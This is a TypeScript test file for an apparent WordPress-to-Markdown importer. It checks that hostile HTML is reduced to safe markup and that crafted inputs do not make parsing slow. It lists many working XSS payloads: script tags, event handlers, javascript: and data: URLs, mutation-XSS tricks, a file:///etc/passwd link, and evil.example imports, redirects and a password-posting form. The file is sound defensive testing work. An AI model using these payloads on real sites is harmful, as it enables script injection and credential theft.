import { parseFragment } from 'parse5'
import { describe, expect, it } from 'vitest'
import { renderBlocks } from '../../page/blocks/blocks.ts'
import { testSetting } from '../../page/blocks/build-setting.ts'
import { feedHtml } from '../../page/feeds/feed-html.ts'
import { testPage, testSite } from '../../page/meta/build-site.ts'
import type { Block } from '../../story/block.ts'
import { storyWith } from '../../story/build.ts'
import { chance } from '../../story/chance-for-tests.ts'
import { fragmentTags } from '../../story/fragment-tags.ts'
import type { Story } from '../../story/story.ts'
import { checkStory } from '../check.ts'
import type { Element } from '../pasted/dom.ts'
import { findAll } from '../pasted/dom.ts'
import { readMarkdown } from '../read-markdown.ts'
import { facts } from '../reading-for-tests.ts'
import { writeMarkdown } from '../write/write-markdown.ts'
import { readMarkup } from './read-markup.ts'

const options = { from: 'WordPress', base: 'https://old.example/' } as const

const exported = {
  ...({ status: 'draft', publishedAt: null, updatedAt: null, topics: [], redirects: [] } as const),
  ...{ picturePath: () => 'a.jpg', slugOf: () => undefined },
  section: { slug: 'culture', name: 'Culture', description: '' },
}

/** Everything that pages may make of blocks: what is not here came from a stranger. */
const ours = new Set([
  ...Object.keys(fragmentTags),
  ...['figure', 'figcaption', 'img', 'article', 'time', 'details', 'summary', 'section'],
])
const ourAttributes =
  /^(?:class|id|role|tabindex|lang|dir|href|rel|hreflang|cite|datetime|title|aria-[a-z]+|colspan|rowspan|scope|abbr|start|reversed|type|value)$/

/** What in markup is not ours: an element, an attribute, an address that is more than one. */
function strange(markup: string): string[] {
  const root = parseFragment(markup)
  const found: string[] = []
  for (const element of findAll(root as unknown as Element, () => true)) {
    if (!ours.has(element.tagName)) found.push(`<${element.tagName}>`)
    for (const { name, value } of element.attrs) {
      if (!ourAttributes.test(name)) found.push(`${element.tagName} ${name}`)
      if (/^(?:href|cite)$/.test(name) && !/^(?:https?:|mailto:|\/(?!\/)|#)/i.test(value))
        found.push(`${name}=${value}`)
    }
  }
  return found
}

/** Takes HTML in: blocks that are sound, and nothing but our markup on the page. */
function takeIn(html: string): { readonly markup: string; readonly story: Story } {
  const { blocks } = readMarkup(html, options)
  const checked = checkStory(storyWith({}, ...blocks), [])
  if ('problem' in checked) throw new Error(checked.problem.message)
  const { story } = checked
  const markup = renderBlocks(testSetting(), story.body.content).map(String).join('')
  expect(strange(markup), html.slice(0, 300)).toEqual([])
  return { markup, story }
}

/** The same, and out again: in feeds, and in Markdown and back. */
function takeThrough(html: string): string {
  const { markup, story } = takeIn(html)
  expect(strange(feedHtml(testSite(), testPage(story))), html.slice(0, 300)).toEqual([])
  comesBack(
    story.body.content.filter(({ type }) => type === 'fragment'),
    html,
  )
  return markup
}

function comesBack(fragments: readonly Block[], html: string): void {
  if (fragments.length === 0) return
  const read = readMarkdown(writeMarkdown(storyWith({}, ...fragments), exported), facts)
  if ('problem' in read) throw new Error(read.problem.message)
  expect(read.taken.story.body.content, html.slice(0, 300)).toEqual(fragments)
}

const shapes: [name: string, html: string][] = [
  ['a script', '<script>alert(1)</script><p>a</p>'],
  ['a script in a table', '<table><tr><td>a<script>alert(1)</script></td><td>b</td></tr></table>'],
  [
    'an event handler',
    '<p onclick="alert(1)">a</p><table onload=alert(1)><tr><td onmouseover="alert(1)">a<td>b</table>',
  ],
  [
    'a picture that fails',
    '<img src=x onerror=alert(1)><table><tr><td><img src=x onerror=alert(1) alt=a><td>b</table>',
  ],
  [
    'a script for an address',
    '<a href="javascript:alert(1)">a</a><dl><dt><a href="JaVaScRiPt:alert(1)">a</a><dd>b</dl>',
  ],
  ['an address with a tab in it', '<dl><dt><a href="java\tscript:alert(1)">a</a><dd>b</dl>'],
  [
    'an address with a control character before it',
    '<dl><dt><a href="&#1;javascript:alert(1)">a</a><dd>b</dl>',
  ],
  [
    'an address of its own data',
    '<dl><dt><a href="data:text/html,<script>alert(1)</script>">a</a><dd>b</dl>',
  ],
  ['a file of this machine', '<dl><dt><a href="file:///etc/passwd">a</a><dd>b</dl>'],
  [
    'a frame with its own page',
    '<iframe srcdoc="<script>alert(1)</script>" title="a"></iframe><object data="javascript:alert(1)" title="b">c</object>',
  ],
  [
    'a frame for an address',
    '<iframe src="javascript:alert(1)" title="a"></iframe><video src="data:text/html,x" title="b"></video>',
  ],
  [
    'drawings with scripts',
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  ],
  [
    'formulas that lead elsewhere',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction><mi>x</mi></math>',
  ],
  ['a tag that changes its kind', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'a tag that changes its kind in a formula',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'a form around a formula',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  [
    'verbatim words that end themselves',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp><pre>&lt;img src=x onerror=alert(1)></pre>',
  ],
  [
    'a style',
    '<style>@import "//evil.example/a.css"</style><table style="background:url(javascript:alert(1))"><tr><td style="behavior:url(x)">a<td>b</table>',
  ],
  [
    'another base, a way to somewhere else',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href=//evil.example/a.css><p>a</p>',
  ],
  [
    'a form that sends',
    '<form action="https://evil.example/" method=post><input type=password name=a><button formaction="javascript:alert(1)">a</button></form>',
  ],
  [
    'a template',
    '<template><script>alert(1)</script></template><table><template><script>alert(1)</script></template><tr><td>a<td>b</table>',
  ],
  [
    'words for those without scripts',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ],
  [
    'comments that are none',
    '<!--><img src=x onerror=alert(1)>--><table><!--<tr>--><tr><td>a<!--[if IE]><script>alert(1)</script><![endif]--><td>b</table>',
  ],
  [
    'names that clobber',
    '<form id=attributes name=body><input name=attributes><p>a</form><dl id=__proto__ name=constructor><dt>a<dd>b</dl>',
  ],
  [
    'an attribute that is none',
    '<dl lang="x&quot; onclick=&quot;alert(1)" dir="auto&quot;><script>"><dt>a<dd>b</dl>',
  ],
  [
    'names of platforms',
    '<blockquote class="twitter-tweet"><p><script>alert(1)</script>a</p><a href="javascript:alert(1)//twitter.com/a/status/1">b</a></blockquote>',
  ],
  [
    'a page of its own',
    '<!doctype html><html onload=alert(1)><head><title>a</title></head><body onload=alert(1)><frameset><frame src=javascript:alert(1)></frameset>b',
  ],
]

describe('HTML that means harm', () => {
  it.each(shapes)('becomes words: %s', (_, html) => {
    expect(takeThrough(html)).not.toMatch(/<script|<[^>]*\son\w+=|srcdoc=|<style|<form|<iframe/i)
  })

  const pieces = shapes.flatMap(([, html]) => html.match(/<[^>]*>|[^<]+/g) ?? [])
  it('becomes words whatever chance makes of its pieces', () => {
    for (let seed = 1; seed <= 300; seed += 1) {
      const next = chance(seed)
      const html = Array.from({ length: 1 + next(14) }, () => pieces[next(pieces.length)]).join('')
      takeThrough(html)
    }
  }, 60_000)
})

const large: [name: string, html: (size: number) => string][] = [
  ['nested divs', (size) => '<div>'.repeat(size)],
  ['nested divs, all closed', (size) => '<div>'.repeat(size) + '</div>'.repeat(size)],
  ['nested tables', (size) => '<table><tr><td>'.repeat(size / 4)],
  ['nested figures', (size) => '<figure><img src=a.jpg>'.repeat(size / 4)],
  ['nested lists', (size) => '<ul><li>'.repeat(size / 2)],
  ['nested quotations', (size) => '<blockquote>'.repeat(size)],
  ['many tables', (size) => '<table><tr><td>a<td>b</table>'.repeat(size / 8)],
  ['a table of many cells', (size) => `<table>${'<tr><td>a<td>b'.repeat(size / 2)}</table>`],
  ['formatting that is never closed', (size) => '<p><b><i><u><s>'.repeat(size)],
  ['words in the wrong place of a table', (size) => `<table>${'a<tr>'.repeat(size / 2)}`],
  ['many paragraphs', (size) => '<p>a</p>'.repeat(size * 2)],
  ['one long word', (size) => 'a'.repeat(size * 40)],
  ['spaces', (size) => `<p>a${' '.repeat(size * 40)}b</p>`],
  ['a comment that never ends', (size) => `<p>a</p>${'<!-- '.repeat(size * 4)}`],
  ['a tag that never ends', (size) => `<p>a</p>${'<a '.repeat(size * 4)}`],
  ['a tag of many attributes', (size) => `<p ${attributes(size / 2)}>a</p>`],
  ['a tag of many attributes, written otherwise', (size) => `<P ${attributes(size / 2)}>a`],
  ['references', (size) => `<p>${'&amp;&unknown;&#8220;'.repeat(size)}</p>`],
  ['a long link', (size) => `<a href="https://x.example/${'a'.repeat(size * 40)}">a</a>`],
]

function attributes(count: number): string {
  return Array.from({ length: count }, (_, at) => `a${at}="b"`).join(' ')
}

/** Milliseconds, of two readings the faster: what else the machine does adds time and takes none away. */
function timeOf(html: string): number {
  const times = [1, 2].map(() => {
    const before = Date.now()
    readMarkup(html, options)
    return Date.now() - before
  })
  return Math.min(...times)
}

describe('HTML that is built to be slow', () => {
  it.each(large)(
    'is read in time that grows with its length: %s',
    (_, html) => {
      const [some, more] = [timeOf(html(10_000)), timeOf(html(40_000))]
      // What grows with the square takes sixteen times as long; short readings are all noise.
      expect(more).toBeLessThan(10 * some + 300)
      const { blocks } = readMarkup(html(40_000), options)
      expect(blocks.length).toBeLessThanOrEqual(5000)
    },
    60_000,
  )
})

// Collections of hostile strings, where they lie beside the repository.
const files = import.meta.glob(
  [
    '../../../../../../shared/data/xss/*/*.{json,dat,txt,md}',
    '../../../../../../shared/data/strings/{blns,unicode-abuse,links}/*.json',
  ],
  { query: '?raw', import: 'default', eager: true },
)

describe.skipIf(Object.keys(files).length === 0)(
  'collected harm (skipped where ../shared/data is absent)',
  () => {
    const texts = (json: unknown): readonly string[] => {
      if (typeof json === 'string') return [json]
      return typeof json === 'object' && json !== null ? Object.values(json).flatMap(texts) : []
    }
    it.each(Object.entries(files))(
      'becomes words: %s',
      (path, text) => {
        const found = path.endsWith('.json') ? texts(JSON.parse(text)) : text.split('\n\n')
        expect(found.length).toBeGreaterThan(0)
        for (const one of found.slice(0, 500)) {
          takeIn(one)
          takeIn(`<table><tr><td>${one}</td><td>b</td></tr></table>`)
        }
      },
      120_000,
    )
  },
)

it('knows its own markup', () => {
  expect(strange('<p class="a">b</p>')).toEqual([])
  expect(strange('<p onclick="a">b</p><script></script>')).toEqual(['p onclick', '<script>'])
  expect(strange('<a href="javascript:alert(1)">b</a>')).toEqual(['href=javascript:alert(1)'])
})
